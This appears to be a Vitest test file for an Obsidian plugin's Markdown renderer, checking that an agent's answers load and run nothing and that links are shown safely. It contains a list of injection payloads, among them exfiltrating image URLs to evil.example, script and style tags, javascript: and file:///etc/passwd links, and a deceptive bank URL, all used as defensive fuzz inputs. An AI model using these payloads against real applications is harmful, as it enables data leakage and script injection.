// @vitest-environment jsdom
/** What is drawn by Obsidian's renderer: nothing of it loads or runs what an agent wrote, and links are the parts' own. */
import { render } from "preact";
import { beforeEach, expect, it, vi } from "vitest";
import "./elements";
import { unveil, veil } from "../src/veil";
import { MarkdownRenderer, ran } from "./renderer";

vi.mock("obsidian", async () => {
  const { MarkdownRenderer } = await import("./renderer");
  class Component {
    load() {
      owners.add(this);
    }
    unload() {
      owners.delete(this);
    }
  }
  return { Component, MarkdownRenderer, getIcon: () => null };
});
const owners = new Set<object>();
const { CITATIONS, CitationsContext, Markdown } = await import("../../ui/parts/markdown");
const { HostContext } = await import("../../ui/parts/host");

type Citations = Parameters<typeof CitationsContext.Provider>[0]["value"];
const opened: object[] = [];
const host = { app: {}, href: () => undefined, open: (target: object) => opened.push(target), copy: async () => undefined, resolveLink: (link: string) => (link === "Garden" ? "Beds/Garden.md" : undefined) };
const NONE: Citations = [];
let root = document.body;

async function draw(text: string, citations?: Citations): Promise<HTMLElement> {
  render(
    <HostContext.Provider value={host as never}>
      <CitationsContext.Provider value={citations ?? []}>
        <Markdown text={text} {...(citations ? { features: CITATIONS } : {})} />
      </CitationsContext.Provider>
    </HostContext.Provider>,
    root,
  );
  const end = /\w+(?=\W*$)/.exec(text)![0];
  await vi.waitFor(() => expect(root.querySelector(".k-prose")?.textContent).toContain(end));
  return root.querySelector<HTMLElement>(".k-prose")!;
}

beforeEach(() => {
  render(null, root);
  root = document.body.appendChild(document.createElement("div"));
  opened.length = ran.length = 0;
});

const LOADED = "img, iframe, script, video, audio, object, embed, link, style, svg image, .math, [onerror], [onclick], [style]";
const HOSTILE = [
  "![x](https://evil.example/?q=secret)", "![[https://evil.example/z.png]]", "![x][r]", "\n\n[r]: https://evil.example/r.png\n\n", "<img src=https://evil.example/y>", "<iframe src=https://evil.example></iframe>",
  "<script>window.hurt = 1</script>", "<style>@import 'https://evil.example'</style>", "\n<svg><image href='https://evil.example'/></svg>\n", "```dataviewjs\nrun()\n```", "\n~~~ dataviewjs\nrun()\n~~~\n", "\n- ```mermaid\n  a\n  ```\n",
  "`= 1`", "`$= run()`", "` =\"!\" + 1 `", "`\n= 1\n`", "``= 1``", "text\n      ```\n= 1\n      ```\n", "$\\style{background:url(https://evil.example)}{x}$", "$$\nx\n$$", "%%", "`", "``", "\n```\n", "\n~~~\n", "\\", "> ", "\n\n", "**", "_", "[", "](x)", "!", "<", "<!--", "-->", "[x](javascript:alert(1))", "<javascript:alert(1)>", "[y](obsidian://run)", "[z](file:///etc/passwd)", "a", " ", "\n", "| a |\n|-|\n| ![x](https://evil.example/t) |\n", "---\na: ![x](https://evil.example/f)\n---\n", "1. ", "&lt;img src=x&gt;", "[^1]\n\n[^1]: ![x](https://evil.example/n)\n\n",
];

it("loads nothing and runs nothing, however it is put together", async () => {
  let state = 11;
  const next = (most: number) => ((state = (state * 1_103_515_245 + 12_345) % 2_147_483_648) >> 8) % most;
  for (let round = 0; round < 1_000; round += 1) {
    const text = Array.from({ length: 1 + next(9) }, () => HOSTILE[next(HOSTILE.length)]).join("");
    const [into, veiled] = [document.createElement("div"), veil(text)!];
    await MarkdownRenderer.render({}, veiled.text, into);
    unveil(into, veiled);

    expect([...into.querySelectorAll(LOADED)], text).toEqual([]);
    expect(ran, text).toEqual([]);
    expect(into.textContent, text).not.toMatch(/[\u2e30-\u2e4e]/);
  }
});

it("draws a text as it is that has all the signs that could stand for others", async () => {
  const signs = Array.from({ length: 32 }, (_, index) => String.fromCharCode(0x2e30 + index)).join("");

  expect(veil(signs)).toBeUndefined();
  expect((await draw(`![x](https://evil.example) ${signs} end`)).querySelectorAll("img").length).toBe(0);
});

it("would load and run all that, were it not veiled", async () => {
  const into = document.createElement("div");
  await MarkdownRenderer.render({}, HOSTILE.slice(0, 13).join("\n\n"), into);

  expect(into.querySelectorAll("img, iframe, script, style").length).toBeGreaterThan(4);
  expect(ran).toContain("dataviewjs");
  expect(ran).toContain("= 1");
});

it("shows what was veiled as the text that it was, in code byte for byte", async () => {
  const shown = await draw("5 < 6, 5%% & \\$3, \\<b>, a\\![x](N.md), x=1\n= y\n\n`<b> $x ![a] %%`\n\n```js\nif (a < b) `${x}`; // <img> ![x](y) \\$\n= 1\n```\n\n<br> &copy; https://a.example/?a=$1&b=2");

  expect(shown.textContent).toContain("5 < 6, 5%% & $3, <b>, a!x, x=1\n= y");
  expect(shown.querySelector("p code")?.textContent).toBe("<b> $x ![a] %%");
  expect(shown.querySelector("pre code")?.textContent).toBe("if (a < b) `${x}`; // <img> ![x](y) \\$\n= 1");
  expect(shown.querySelector(".k-code-head span")?.textContent).toBe("js");
  expect(shown.textContent).toContain("<br> ©");
  expect(shown.querySelector("a[target=_blank]")?.getAttribute("href")).toBe("https://a.example/?a=$1&b=2");
});

it("makes links to notes citations in an answer, with the lines that stand behind them", async () => {
  const shown = await draw("Water [[Garden#Watering]] (lines 7-8). And [[Garden|L3-5]], [[Garden|my *bed*]].", [{ path: "Beds/Garden.md", heading: "## Watering", start_line: 7, end_line: 8, hash: "x" }]);
  const chips = [...shown.querySelectorAll<HTMLElement>(".k-cite")];

  expect(chips.map((chip) => chip.title)).toEqual(["Beds/Garden.md, lines 7–8", "Beds/Garden.md, lines 7–8", "Beds/Garden.md, lines 7–8"]);
  expect(shown.textContent).toMatch(/^Water Garden › Wateringlines 7–8\. And /);
  chips[0]!.click();
  expect(opened).toEqual([{ kind: "note", path: "Beds/Garden.md", lines: [7, 8], hash: "x" }]);
});

it("says where links of the web lead, opens notes in the app, and follows nothing else", async () => {
  const shown = await draw("[bank](https://bank.example@evil.example/x) [n](Rain%20fall.md) [[Garden#Tools|t]] [o](obsidian://run) ![pic](https://a.example/x.png) end");
  const click = (link: Element) => link.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
  const links = [...shown.querySelectorAll("a")];

  expect(shown.textContent).toBe("bank (evil.example) n t o pic (a.example) end");
  expect(links.map((link) => link.textContent)).toEqual(["bank (evil.example)", "n", "t", "pic (a.example)"]);
  expect(links.map(click)).toEqual([true, false, false, true]);
  expect(opened).toEqual([{ kind: "note", path: "Rain fall.md" }, { kind: "note", path: "Beds/Garden.md", fragment: "Tools" }]);
});

it("keeps what is drawn while an answer grows, and lets go of all of it in the end", async () => {
  const before = (await draw("One\n\n```js\n1\n```\n\nTwo", NONE)).children;
  const kept = [before[0], before[1]];
  const shown = await draw("One\n\n```js\n1\n```\n\nTwo and more\n\nThree", NONE);

  expect([shown.children[0], shown.children[1]]).toEqual(kept);
  expect([...shown.children].map((node) => node.textContent).slice(2)).toEqual(["Two and more", "Three"]);
  render(null, root);
  await vi.waitFor(() => expect(owners.size).toBe(0));
});
